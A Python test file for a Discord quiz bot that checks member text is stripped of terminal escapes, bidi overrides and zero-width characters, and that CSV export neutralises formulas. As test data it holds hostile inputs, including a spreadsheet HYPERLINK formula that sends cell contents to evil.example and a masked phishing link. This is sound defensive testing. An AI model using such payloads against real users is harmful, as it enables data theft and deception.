"""Member text is inert everywhere it goes: stored without control, bidi or zero-width
characters (nothing reaches the host's terminal as an escape sequence), shown to admins
with its links visible, written to CSV without a live formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest
from sqlmodel import select

from bot.common.text import csv_cell, member_text, strip_invisible
from bot.community import reports_store
from bot.community.rules import SuggestionForm, check_note, check_suggestion
from bot.db.database import Database
from bot.db.tables.community import QuestionReport
from bot.db.tables.community import Suggestion as SuggestionRow
from testkit.standin.server import FakeDiscord
from tests.community.test_e2e_reports import answer_one
from tests.support.bot import StartBot
from tests.support.cli import cli
from tests.support.community import custom_id, suggest
from tests.support.db import NOW

# An OSC 8 hyperlink and an SGR colour (a terminal's escape sequences), a C1 CSI, a bidi
# override (reads "exe.png" as "gnp.exe"), zero-width characters, a tab, CR LF.
HOSTILE = (
    "see \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b2J"
    " file\u202egnp.exe\u202c z\u200bw\u200dj\u2060\ufeff a\tb\r\nnext\x00line"
)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"x")'
MASKED = "[Verify ownership](https://evil.example)"


def invisible(text: str) -> list[str]:
    return [
        f"U+{ord(c):04X}"
        for c in text
        if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")
    ]


def test_member_text_keeps_no_control_bidi_or_zero_width_character() -> None:
    cleaned = strip_invisible(HOSTILE)
    assert invisible(cleaned) == []
    assert cleaned == (
        "see ]8;;https://evil.examplehere]8;; [31mred[0m 2J filegnp.exe zwj a b\nnextline"
    )
    assert member_text("@everyone " + HOSTILE).startswith("\uff20everyone see ")


def test_notes_and_suggestions_are_stored_clean() -> None:
    note = check_note(HOSTILE)
    assert note is not None and invisible(note) == [] and "\x1b" not in note
    assert note.endswith("filegnp.exe zwj a b nextline")
    suggestion = check_suggestion(
        SuggestionForm(
            prompt="Which dtype \u202ekeeps\u202c fp32's range?\x1b[2J",
            choices="A) bf16\u200b\nB) fp16\x1b]0;owned\x07",
            answer="A",
            explanation="Eight \u2066exponent\u2069 bits.\x9b",
            language="en",
        ),
        "en",
    )
    assert suggestion.prompt == "Which dtype keeps fp32's range?[2J"
    assert suggestion.choices == ("bf16", "fp16]0;owned")
    assert suggestion.explanation == "Eight exponent bits."


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_never_starts_a_formula(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("a" + start) == "a" + start
    assert csv_cell("") == ""


async def test_quiztutor_reports_writes_notes_as_text(
    db: Database, db_url: str, tmp_path: Path
) -> None:
    # Rows as an older bot stored them (before notes were cleaned): the output is inert too.
    for user_id, question_id, note in [(10, "mp-01", FORMULA), (11, "mp-02", HOSTILE)]:
        await reports_store.add_report(
            db,
            guild_id=1,
            question_id=question_id,
            user_id=user_id,
            reason="other",
            note=note,
            fingerprint="f",
            now=NOW,
        )
    result = cli(tmp_path, "reports", "--csv", DATABASE_URL=db_url)
    assert result.returncode == 0, result.stderr
    notes = {row["question_id"]: row["note"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert notes["mp-01"] == "'" + FORMULA
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
    shown = cli(tmp_path, "reports", DATABASE_URL=db_url)
    assert shown.returncode == 0, shown.stderr
    assert invisible(shown.stdout) == [] and "mp-02" in shown.stdout


async def test_admins_see_where_a_members_links_lead(
    discord_fake: FakeDiscord, start_bot: StartBot
) -> None:
    fake = discord_fake
    bob, citra, _ = fake.users_list
    async with start_bot() as bot:
        # A suggestion: the review queue shows the address, never a masked link.
        await suggest(
            fake,
            bob,
            prompt=f"{MASKED} first: which dtype?",
            choices="bf16 [docs](https://evil.example/a)\nfp16",
            explanation=f"Eight bits. {MASKED}",
        )
        queue = await fake.slash(fake.admin, "quizadmin suggestions")
        shown = str(queue.embeds)
        assert "Verify ownership (https://evil.example)" in shown
        assert "docs (https://evil.example/a)" in shown
        assert "](" not in shown
        # Stored as written: the address is shown wherever it is shown.
        async with bot.services.db.session() as session:
            (row,) = (await session.exec(select(SuggestionRow))).all()
        assert row.content["prompt"].startswith(MASKED)

        # A report's note, sent with an escape sequence: stored clean, shown with its address.
        message, question_id = await answer_one(fake, bot, citra)
        form = await fake.click(message, f"rp:{question_id}", citra)
        await fake.submit_modal(
            form, {"reason": ["other"], "note": f"\x1b[2J{MASKED} \u202eok\u202c"}
        )
        async with bot.services.db.session() as session:
            (report,) = (await session.exec(select(QuestionReport))).all()
        assert report.note == f"[2J{MASKED} ok"
        listed = await fake.slash(fake.admin, "quizadmin reports")
        description = listed.embeds[0]["description"]
        assert "Verify ownership (https://evil.example)" in description
        assert "](" not in description

        # The admin's rejection reason reaches the author with its links visible too.
        queue = await fake.slash(fake.admin, "quizadmin suggestions")
        assert queue.message is not None
        reject = await fake.click(queue.message, custom_id(queue.message, "Reject"), fake.admin)
        await fake.submit_modal(reject, {"reason": f"See {MASKED}"})
        dm = await fake.wait_for_dm(bob)
        assert "Verify ownership (https://evil.example)" in dm.content
        assert "](" not in dm.content
